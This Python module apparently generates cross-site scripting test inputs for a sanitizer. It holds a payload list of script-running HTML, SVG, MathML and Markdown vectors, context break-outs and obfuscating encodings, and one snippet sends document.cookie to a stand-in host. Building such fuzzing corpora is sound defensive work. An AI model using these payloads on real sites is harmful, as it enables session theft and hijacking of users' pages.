"""Texts that a browser would run, were they put into a page as they are."""

import html
from urllib.parse import quote

from tests.hostile.cases import drawn, of_text

RUNS = (
    "window.__xss=1", "alert(1)", "self['__xss']=1", "top.__xss=document.domain",
    "(()=>{__xss=1})()", "location='https://ailleurs.invalid/?'+document.cookie",
)  # fmt: skip
VECTORS = (
    "<script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT >",
    "<script src=data:text/javascript,{js}></script>",
    "<img src=x onerror={js}>",
    "<img src=x\nonerror\n=\n{js}\n>",
    "<img/src=x/onerror={js}//",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{js}'><text y=9>ici</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{js}</script>'></foreignObject></svg>",
    "<math><mi href='javascript:{js}'>x</mi></math>",
    "<math><mtext><table><mi><style><!--</style><img title='--><img src=x onerror={js}>'>",
    "<iframe srcdoc='<img src=x onerror=parent.{js}>'></iframe>",
    "<iframe src='javascript:{js}'></iframe>",
    "<object data='javascript:{js}'></object>",
    "<embed src='data:image/svg+xml,<svg onload={js}>'>",
    "<a href='javascript:{js}'>lire</a>",
    "<a href='jav&#x09;ascript:{js}'>lire</a>",
    "<a href=' &#14;javascript:{js}'>lire</a>",
    "<form action='javascript:{js}'><button autofocus>envoyer</button></form>",
    "<button formaction='javascript:{js}'>envoyer</button>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}><option>a</select>",
    "<textarea autofocus onfocus={js}>",
    "<details open ontoggle={js}><summary>a</summary></details>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<body onload={js}>",
    "<marquee onstart={js}>",
    "<div style='animation:x' onanimationstart={js}>",
    "<base href='https://ailleurs.invalid/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<link rel=stylesheet href='https://ailleurs.invalid/x.css'>",
    "<style>@import 'https://ailleurs.invalid/x.css';</style>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<xmp><p title='</xmp><svg/onload={js}>'>",
    "<p id=nodeName><form id=x tabindex=0 onfocus={js}><input name=parentNode>",
    "javascript:{js}",
    "[lire](javascript:{js})",
    "![x](x 'x\"onerror=\"{js}')",
    "<https://exemple.fr/\"onmouseover=\"{js}>",
)  # fmt: skip
CONTEXTS = (
    "", "</textarea>", "</title>", "</option></select>", "</script>", "</style>", "--!>", "]]>",
    "\">", "'>", "&quot;>", "</dd></dl>", "\" autofocus onfocus=\"{js}\" x=\"", "' onclick='{js}' ",
    "</bdi>", "`-{js}-`",
)  # fmt: skip


def _with(character, every=3):
    """Put a sign that is taken away, or not seen, between letters: what is left may come alive."""
    return lambda text: character.join(text[at : at + every] for at in range(0, len(text), every))


ENCODINGS = (
    str,
    html.escape,
    lambda text: html.escape(html.escape(text)),
    lambda text: "".join(f"&#{ord(character)};" for character in text),
    lambda text: "".join(f"&#x{ord(character):07x}" for character in text),
    quote,
    lambda text: quote(quote(text)),
    lambda text: text.translate({60: "＜", 62: "＞", 34: "＂", 39: "＇"}),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    str.swapcase,
    _with("\x01"),
    _with("\x7f", 1),
    _with("\u200b"),
    _with("\u00ad", 2),
    lambda text: text.replace("<", "<\x0b").replace(" ", "\x0c"),
)


def markup(chance, count):
    """Elements, attributes and addresses that run a script, out of places and in disguises."""
    for js, vector, context, encode in drawn(chance, count, RUNS, VECTORS, CONTEXTS, ENCODINGS):
        yield of_text("markup", encode((context + vector).replace("{js}", js)))
